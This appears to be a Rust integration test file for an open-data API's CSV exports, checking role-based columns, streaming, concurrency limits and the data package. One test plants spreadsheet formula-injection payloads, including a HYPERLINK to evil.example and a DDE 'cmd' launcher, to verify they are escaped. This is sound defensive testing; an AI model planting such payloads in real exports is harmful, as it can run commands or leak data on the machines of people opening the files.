//! CSV exports parsed back: the rows the lists show, personal columns only for ANCT, French
//! Excel options, the open-data licence.

use fabriques_api::auth::Role;
use serde_json::json;

use crate::both_engines;
use crate::helpers::TestApp;
use crate::year::running_fabrique;

async fn fetch(app: &TestApp, path: &str, token: Option<&str>) -> reqwest::Response {
    let mut rb = app.client.get(format!("{}{path}", app.base));
    if let Some(t) = token {
        rb = rb.bearer_auth(t);
    }
    rb.send().await.unwrap()
}

/// Header and rows of a CSV body.
fn parse(bytes: &[u8], sep: u8) -> (Vec<String>, Vec<Vec<String>>) {
    let mut r = csv::ReaderBuilder::new().delimiter(sep).from_reader(bytes);
    let header = r.headers().unwrap().iter().map(str::to_owned).collect();
    let rows = r
        .records()
        .map(|rec| rec.unwrap().iter().map(str::to_owned).collect())
        .collect();
    (header, rows)
}

async fn exports_are_csv_with_the_rows_the_lists_show(app: TestApp) {
    let run = running_fabrique(&app, 2).await;
    app.post(
        "/api/v1/fabriques",
        json!({"title": "Brouillon; avec \"guillemets\", virgule"}),
    )
    .await;

    // Fabriques: the public sees those past draft; the admin all, quotes and all.
    let res = fetch(&app, "/api/v1/exports/fabriques.csv", None).await;
    assert_eq!(res.status(), 200);
    assert!(
        res.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    assert!(
        res.headers()["link"]
            .to_str()
            .unwrap()
            .contains("licence-ouverte")
    );
    let (header, rows) = parse(&res.bytes().await.unwrap(), b',');
    assert_eq!(header, columns(store::exports::FABRIQUES));
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0][0], run.fabrique);
    let res = fetch(
        &app,
        "/api/v1/exports/fabriques.csv?sep=;&bom=true",
        Some(&app.admin),
    )
    .await;
    let bytes = res.bytes().await.unwrap();
    assert!(bytes.starts_with("\u{feff}".as_bytes()), "BOM");
    let (_, rows) = parse(&bytes[3..], b';');
    let list = app.get("/api/v1/fabriques?limit=200").await;
    assert_eq!(rows.len(), list.body["items"].as_array().unwrap().len());
    let titles: Vec<&str> = rows.iter().map(|r| r[1].as_str()).collect();
    assert!(
        titles.contains(&"Brouillon; avec \"guillemets\", virgule"),
        "{titles:?}"
    );

    // Participations: personal columns for ANCT only.
    let res = fetch(&app, "/api/v1/exports/participations.csv", Some(&app.admin)).await;
    let (header, rows) = parse(&res.bytes().await.unwrap(), b',');
    assert_eq!(header, columns(store::exports::PARTICIPATIONS));
    assert_eq!(rows.len(), 2);
    let sponsor = header.iter().position(|h| h == "sponsor_name").unwrap();
    assert_eq!(rows[0][sponsor], "Jeanne Martin");
    for token in [None, Some(app.token(Role::Analyst, None, None))] {
        let res = fetch(&app, "/api/v1/exports/participations.csv", token.as_deref()).await;
        let (header, rows) = parse(&res.bytes().await.unwrap(), b',');
        assert!(
            !header
                .iter()
                .any(|h| h.starts_with("sponsor") || h == "motivation"),
            "{header:?}"
        );
        assert_eq!(rows.len(), 2);
        assert!(rows.iter().all(|r| r.len() == header.len()));
    }

    // Filters as for the list; territories; funding only for analysts and ANCT.
    let res = fetch(
        &app,
        "/api/v1/exports/participations.csv?status=draft",
        Some(&app.admin),
    )
    .await;
    assert_eq!(parse(&res.bytes().await.unwrap(), b',').1.len(), 0);
    let res = fetch(&app, "/api/v1/exports/territories.csv", None).await;
    let (_, rows) = parse(&res.bytes().await.unwrap(), b',');
    assert_eq!(rows.len(), 2);
    assert_eq!(
        fetch(&app, "/api/v1/exports/funding_lines.csv", None)
            .await
            .status(),
        401
    );
    // One funding rule everywhere: a territory never sees funding; a partner sees the lines of
    // the Fabriques it partners, and only those.
    let territory = app.token(Role::Territory, None, Some(&run.territories[0]));
    assert_eq!(
        fetch(&app, "/api/v1/exports/funding_lines.csv", Some(&territory))
            .await
            .status(),
        403
    );
    let partner = app.token(Role::Partner, Some(&run.co_animator), None);
    let res = fetch(&app, "/api/v1/exports/funding_lines.csv", Some(&partner)).await;
    assert_eq!(res.status(), 200);
    let (header, rows) = parse(&res.bytes().await.unwrap(), b',');
    let fabrique = header.iter().position(|h| h == "fabrique_id").unwrap();
    assert!(rows.iter().all(|r| r[fabrique] == run.fabrique), "{rows:?}");
    let res = fetch(&app, "/api/v1/exports/funding_lines.csv", Some(&app.admin)).await;
    assert_eq!(res.status(), 200);
    assert!(res.headers().get("link").is_none(), "not open data");
    assert_eq!(
        fetch(&app, "/api/v1/exports/planets.csv", None)
            .await
            .status(),
        404
    );
    assert_eq!(
        fetch(&app, "/api/v1/exports/fabriques.csv?sep=%7C", None)
            .await
            .status(),
        400
    );
}

/// More rows than several pages of the stream: every one arrives once, in creation order.
async fn a_long_export_streams_every_row_once(app: TestApp) {
    use sea_orm::{EntityTrait, Set};
    let now = chrono::Utc::now();
    let ids: Vec<uuid::Uuid> = (0..2_500).map(|_| uuid::Uuid::now_v7()).collect();
    for chunk in ids.chunks(500) {
        entity::territory::Entity::insert_many(chunk.iter().enumerate().map(|(i, id)| {
            entity::territory::ActiveModel {
                id: Set(*id),
                name: Set(format!("Lieu {i}")),
                kind: Set("other".into()),
                code_scheme: Set(None),
                code: Set(None),
                department: Set(None),
                region: Set(None),
                population: Set(None),
                latitude: Set(None),
                longitude: Set(None),
                version: Set(1),
                created_at: Set(now),
                updated_at: Set(now),
            }
        }))
        .exec(&app.db)
        .await
        .unwrap();
    }
    let res = fetch(&app, "/api/v1/exports/territories.csv", None).await;
    let (_, rows) = parse(&res.bytes().await.unwrap(), b',');
    let got: Vec<String> = rows.into_iter().map(|r| r[0].clone()).collect();
    let want: Vec<String> = ids.iter().map(ToString::to_string).collect();
    assert_eq!(got, want);
}

/// A formula for the cell of `column`, in one of the forms a spreadsheet runs.
fn formula(column: &str, form: usize) -> String {
    match form % 4 {
        0 => format!("=HYPERLINK(\"http://evil.example/{column}\",\"x\")"),
        1 => format!("-1+cmd|' /C calc {column}'!A0"),
        2 => format!("+SUM(1)*{column}"),
        _ => format!("@SUM(1) {column}"),
    }
}

/// A formula planted through every writable text field that reaches an export comes out as
/// text in every export and flavour, and no cell of any export starts a formula.
async fn no_exported_cell_runs_as_a_formula(app: TestApp) {
    use reqwest::Method;
    let run = running_fabrique(&app, 1).await;
    let (f, p) = (&run.fabrique, &run.participations[0]);
    let admin = app.admin.clone();
    let mut planted: Vec<(&str, &str, String)> = Vec::new();
    let send = async |method: Method, path: String, body: serde_json::Value| {
        let r = app.raw(method, &path, Some(&admin), Some(body)).await;
        assert!(r.status.is_success(), "{path}: {} {}", r.status, r.body);
    };
    let mut plant = |dataset: &'static str, column: &'static str| {
        let v = formula(column, planted.len());
        planted.push((dataset, column, v.clone()));
        v
    };
    let fabrique =
        json!({"title": plant("fabriques", "title"), "theme": plant("fabriques", "theme")});
    let participation = json!({
        "focus": plant("participations", "focus"),
        "sponsor_name": plant("participations", "sponsor_name"),
        "sponsor_mandate": plant("participations", "sponsor_mandate"),
        "motivation": plant("participations", "motivation"),
    });
    let seminar =
        json!({"number": 1, "scheduled_on": "2027-03-01", "place": plant("seminars", "place")});
    let action = json!({
        "title": plant("roadmap_actions", "title"),
        "lead": plant("roadmap_actions", "lead"),
        "horizon": plant("roadmap_actions", "horizon"),
    });
    let territory = json!({"name": plant("territories", "name"), "kind": "other"});
    let label = plant("funding_lines", "label");
    send(Method::PATCH, format!("/api/v1/fabriques/{f}"), fabrique).await;
    send(
        Method::PATCH,
        format!("/api/v1/participations/{p}"),
        participation,
    )
    .await;
    send(
        Method::POST,
        format!("/api/v1/participations/{p}/seminars"),
        seminar,
    )
    .await;
    send(
        Method::PUT,
        format!("/api/v1/participations/{p}/roadmap"),
        json!({"kind": "roadmap", "title": "Feuille de route"}),
    )
    .await;
    send(
        Method::POST,
        format!("/api/v1/participations/{p}/roadmap/actions"),
        action,
    )
    .await;
    send(Method::POST, "/api/v1/territories".into(), territory).await;
    let funder = app.org("Caisse des dépôts", "funder").await;
    send(
        Method::PUT,
        format!("/api/v1/fabriques/{f}/partners/{funder}"),
        json!({"roles": ["co_funder"]}),
    )
    .await;
    send(
        Method::POST,
        format!("/api/v1/fabriques/{f}/funding-lines"),
        json!({"organization_id": funder, "kind": "co_funding", "amount_cents": 100, "label": label}),
    )
    .await;

    for dataset in domain::query::Dataset::ALL.iter().map(|d| d.as_str()) {
        for (query, sep) in [("", b','), ("?sep=;&bom=true", b';')] {
            let res = fetch(
                &app,
                &format!("/api/v1/exports/{dataset}.csv{query}"),
                Some(&admin),
            )
            .await;
            assert_eq!(res.status(), 200, "{dataset}");
            let body = res.bytes().await.unwrap();
            let body = body.strip_prefix("\u{feff}".as_bytes()).unwrap_or(&body);
            let (header, rows) = parse(body, sep);
            for (d, column, value) in planted.iter().filter(|(d, ..)| *d == dataset) {
                let i = header
                    .iter()
                    .position(|h| h == column)
                    .unwrap_or_else(|| panic!("{d}.{column}"));
                assert!(
                    rows.iter().any(|r| r[i] == format!("'{value}")),
                    "{d}.{column}{query}: {value:?} is not written as text in {rows:?}"
                );
            }
            for cell in rows.iter().flatten() {
                let number = cell.parse::<f64>().is_ok() && !cell.contains(char::is_alphabetic);
                assert!(
                    number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{dataset}{query}: {cell:?} starts a formula"
                );
            }
        }
    }
}

/// Exports are bounded work: while the database holds them up (a lock, here), a caller gets
/// at most 2 at once (429 `too_many_exports`) and the instance 4 (503 `exports_busy`), both
/// with `Retry-After`, refused before any row is read; permits come back when streams end.
async fn exports_at_once_are_bounded_per_caller_and_overall(app: TestApp) {
    use sea_orm::{ConnectionTrait, TransactionTrait};
    running_fabrique(&app, 2).await;
    // Hold the exports up. On SQLite the test's handle is the server's pool, of one connection
    // here: an open transaction on it keeps every export waiting. On PostgreSQL, a lock on the table.
    let lock = app.db.begin().await.unwrap();
    if !app.url.starts_with("sqlite") {
        lock.execute_unprepared("LOCK TABLE fabriques IN ACCESS EXCLUSIVE MODE")
            .await
            .unwrap();
    }
    let path = "/api/v1/exports/fabriques.csv";
    let analyst = app.token(Role::Analyst, None, None);
    let staff = app.token(Role::AnctStaff, None, None);
    let mut held = Vec::new();
    for _ in 0..2 {
        let r = fetch(&app, path, None).await;
        assert_eq!(r.status(), 200);
        held.push(r);
    }
    let refused = fetch(&app, path, None).await;
    assert_eq!(refused.status(), 429);
    assert_eq!(refused.headers()["retry-after"], "2");
    let problem: serde_json::Value = refused.json().await.unwrap();
    assert_eq!(problem["code"], "too_many_exports", "{problem}");
    for token in [&analyst, &app.admin] {
        let r = fetch(&app, path, Some(token)).await;
        assert_eq!(r.status(), 200);
        held.push(r);
    }
    let busy = fetch(&app, path, Some(&staff)).await;
    assert_eq!(busy.status(), 503);
    assert!(busy.headers().contains_key("retry-after"));
    let problem: serde_json::Value = busy.json().await.unwrap();
    assert_eq!(problem["code"], "exports_busy", "{problem}");
    // The lock goes: every held export completes, and the permits come back.
    lock.rollback().await.unwrap();
    for r in held {
        let text = r.text().await.unwrap();
        assert!(text.lines().count() >= 2, "{text}");
    }
    for _ in 0..3 {
        let r = fetch(&app, path, Some(&staff)).await;
        assert_eq!(r.status(), 200);
        r.text().await.unwrap();
    }
}

both_engines!(
    exports_are_csv_with_the_rows_the_lists_show,
    a_long_export_streams_every_row_once,
    no_exported_cell_runs_as_a_formula,
);
both_engines!(tuned crate::helpers::one_connection(); exports_at_once_are_bounded_per_caller_and_overall);
both_engines!(a_filtered_export_reads_its_selection_once_either_way);

/// Every row of `dataset` for `filter`, as the store streams them, binding selections of up to
/// `bound_max` Fabriques.
async fn streamed(
    app: &TestApp,
    access: &domain::Access,
    dataset: domain::query::Dataset,
    filter: &domain::query::FabriqueFilter,
    bound_max: usize,
) -> Vec<Vec<String>> {
    use futures_util::StreamExt;
    let mut out = Vec::new();
    let mut rows = store::exports::rows_bounded(app.db.clone(), access, dataset, filter, bound_max);
    while let Some(batch) = rows.next().await {
        out.extend(batch.unwrap());
    }
    out
}

/// A filtered export reads its selection once, then binds it into each page or sifts each page
/// through it: both ways give the rows of the unfiltered export whose Fabrique is selected, in
/// the same order, across several pages.
async fn a_filtered_export_reads_its_selection_once_either_way(app: TestApp) {
    use domain::query::{Dataset, FabriqueFilter};
    use domain::{Access, Caller, FabriqueStatus};
    // About 40 × 16 seminars: several pages of 500.
    fabriques_api::loaders::synthetic::seed(&app.db, 40, 5)
        .await
        .unwrap();
    let analyst = Access::new(
        Caller {
            subject: "exports-test".into(),
            role: Role::Analyst,
            organization: None,
            territory: None,
            client: None,
            scopes: domain::TokenScopes::ALL,
        },
        Default::default(),
    );
    let running = FabriqueFilter {
        statuses: vec![FabriqueStatus::Running, FabriqueStatus::Completed],
        ..FabriqueFilter::default()
    };
    let selected: std::collections::HashSet<String> =
        streamed(&app, &analyst, Dataset::Fabriques, &running, usize::MAX)
            .await
            .into_iter()
            .map(|r| r[0].clone())
            .collect();
    assert!(
        selected.len() > 3 && selected.len() < 40,
        "{}",
        selected.len()
    );
    // (dataset, the column of its Fabrique's id)
    for (dataset, fk) in [
        (Dataset::Fabriques, 0),
        (Dataset::Seminars, 1),
        (Dataset::Participations, 1),
        (Dataset::FundingLines, 1),
    ] {
        let all = streamed(&app, &analyst, dataset, &FabriqueFilter::default(), 0).await;
        let expected: Vec<_> = all
            .into_iter()
            .filter(|r| selected.contains(&r[fk]))
            .collect();
        assert!(!expected.is_empty(), "{dataset:?}");
        let bound = streamed(&app, &analyst, dataset, &running, usize::MAX).await;
        let sifted = streamed(&app, &analyst, dataset, &running, 0).await;
        assert_eq!(bound, expected, "{dataset:?}, bound into each page");
        assert_eq!(sifted, expected, "{dataset:?}, sifted in memory");
    }
    let seminars = streamed(&app, &analyst, Dataset::Seminars, &running, 0).await;
    assert!(
        seminars.len() as u64 > store::exports::BATCH,
        "{} seminars: more than one page",
        seminars.len()
    );
    // A selection of nothing: no row, either way.
    let none = FabriqueFilter {
        q: Some("aucune fabrique ne porte ce titre".into()),
        ..FabriqueFilter::default()
    };
    for bound_max in [0, usize::MAX] {
        assert!(
            streamed(&app, &analyst, Dataset::Seminars, &none, bound_max)
                .await
                .is_empty()
        );
    }
}

/// A dataset's column names.
fn columns(cols: store::exports::Columns) -> Vec<&'static str> {
    cols.iter().map(|(c, _)| *c).collect()
}

both_engines!(the_new_exports_hold_what_the_public_may_see_and_join_by_id);

/// Roadmaps (adopted ones for the public), partners (a row per role) and testimonies
/// (published ones for the public), joinable with the other exports by id.
async fn the_new_exports_hold_what_the_public_may_see_and_join_by_id(app: TestApp) {
    use reqwest::Method;
    let run = running_fabrique(&app, 2).await;
    let (adopted, draft) = (&run.participations[0], &run.participations[1]);
    for p in [adopted, draft] {
        let r = app
            .raw(
                Method::PUT,
                &format!("/api/v1/participations/{p}/roadmap"),
                Some(&app.admin),
                Some(json!({"kind": "roadmap", "title": "Feuille de route"})),
            )
            .await;
        assert_eq!(r.status, 201, "{}", r.body);
    }
    let r = app
        .post(
            &format!("/api/v1/participations/{adopted}/roadmap/actions"),
            json!({"title": "Une action"}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.body);
    for action in [
        json!({"action": "submit"}),
        json!({"action": "adopt", "adoption_date": "2026-11-30", "adoption_reference": "D-12"}),
    ] {
        let r = app
            .post(
                &format!("/api/v1/participations/{adopted}/roadmap/transitions"),
                action,
            )
            .await;
        assert_eq!(r.status, 200, "{}", r.body);
    }
    let t = format!("/api/v1/fabriques/{}/testimonies", run.fabrique);
    let published = app
        .post(
            &t,
            json!({"speaker": "Jeanne Dupont", "quote": "Utile", "published": true}),
        )
        .await
        .id();
    app.post(&t, json!({"speaker": "Paul Martin", "published": false}))
        .await
        .id();

    let csv = |path: &'static str, token: Option<String>| {
        let app = &app;
        async move {
            let res = fetch(app, path, token.as_deref()).await;
            assert_eq!(res.status(), 200, "{path}");
            parse(&res.bytes().await.unwrap(), b',')
        }
    };
    let (header, public) = csv("/api/v1/exports/roadmaps.csv", None).await;
    assert_eq!(header, columns(store::exports::ROADMAPS));
    assert_eq!(public.len(), 1, "{public:?}");
    assert_eq!(
        (
            public[0][1].as_str(),
            public[0][7].as_str(),
            public[0][9].as_str()
        ),
        (adopted.as_str(), "adopted", "2026-11-30")
    );
    let (_, all) = csv("/api/v1/exports/roadmaps.csv", Some(app.admin.clone())).await;
    assert_eq!(all.len(), 2);
    // The actions' roadmap_id is a roadmap of the roadmaps export.
    let (_, actions) = csv("/api/v1/exports/roadmap_actions.csv", None).await;
    assert_eq!(actions.len(), 1);
    assert_eq!(actions[0][1], public[0][0]);

    let (header, partners) = csv("/api/v1/exports/partners.csv", None).await;
    assert_eq!(header, columns(store::exports::PARTNERS));
    let mut roles: Vec<(&str, &str)> = partners
        .iter()
        .filter(|p| p[0] == run.fabrique)
        .map(|p| (p[1].as_str(), p[5].as_str()))
        .collect();
    roles.sort();
    let mut expected = vec![
        (run.contractor.as_str(), "contractor"),
        (run.co_animator.as_str(), "co_animator"),
    ];
    let pilot = partners
        .iter()
        .find(|p| p[5] == "pilot")
        .map(|p| p[1].clone())
        .unwrap();
    expected.push((pilot.as_str(), "pilot"));
    expected.sort();
    assert_eq!(roles, expected);
    assert!(
        partners
            .iter()
            .any(|p| p[2] == "Intercommunalités de France"),
        "{partners:?}"
    );

    let (header, testimonies) = csv("/api/v1/exports/testimonies.csv", None).await;
    assert_eq!(header, columns(store::exports::TESTIMONIES));
    assert_eq!(testimonies.len(), 1);
    assert_eq!(
        (testimonies[0][0].as_str(), testimonies[0][3].as_str()),
        (published.as_str(), "Jeanne Dupont")
    );
    let (_, every) = csv("/api/v1/exports/testimonies.csv", Some(app.admin.clone())).await;
    assert_eq!(every.len(), 2);
}

/// The data package describes each public export as it is: the public columns in order, a
/// description for each, keys that name columns, references to resources of the package.
#[test]
fn the_data_package_describes_every_public_export_as_served() {
    let pkg = fabriques_api::datapackage::package();
    let resources = pkg["resources"].as_array().unwrap();
    let names: Vec<&str> = resources
        .iter()
        .map(|r| r["name"].as_str().unwrap())
        .collect();
    for d in domain::query::Dataset::ALL {
        let public = store::exports::is_open_data(*d, &domain::Access::public());
        assert_eq!(names.contains(&d.as_str()), public, "{d}");
    }
    for r in resources {
        let d: domain::query::Dataset = r["name"].as_str().unwrap().parse().unwrap();
        let fields: Vec<&str> = r["schema"]["fields"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["name"].as_str().unwrap())
            .collect();
        assert_eq!(
            fields,
            store::exports::columns(d, &domain::Access::public()),
            "{d}"
        );
        for f in r["schema"]["fields"].as_array().unwrap() {
            assert!(f["description"].is_string(), "{d}: {f}");
        }
        for k in r["schema"]["primaryKey"].as_array().unwrap() {
            assert!(fields.contains(&k.as_str().unwrap()), "{d}: {k}");
        }
        for fk in r["schema"]["foreignKeys"].as_array().into_iter().flatten() {
            assert!(
                fields.contains(&fk["fields"][0].as_str().unwrap()),
                "{d}: {fk}"
            );
            assert!(
                names.contains(&fk["reference"]["resource"].as_str().unwrap()),
                "{d}: {fk}"
            );
        }
        assert_eq!(r["path"], format!("{d}.csv"));
        assert_eq!(r["licenses"][0]["name"], "etalab-2.0");
    }
}
